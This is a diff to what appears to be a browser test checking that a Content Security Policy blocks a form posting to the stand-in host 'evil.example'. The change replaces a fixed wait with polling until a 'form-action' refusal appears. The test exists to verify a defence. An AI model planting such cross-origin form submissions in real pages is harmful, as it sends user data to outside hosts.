@@ -113,7 +113,8 @@ async function thePolicyHolds() {
     const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
     document.body.append(form);
     HTMLFormElement.prototype.submit.call(form);
-    await new Promise((resolve) => setTimeout(resolve, 500));
+    // Of a form it is told when the browser comes to it.
+    for (let turn = 0; turn < 200 && !refused.includes("form-action"); turn += 1) await new Promise((resolve) => setTimeout(resolve, 50));
     return [...new Set(refused)].sort();
   });
   assert.equal(await page.evaluate(() => typeof window.pwned), "undefined");
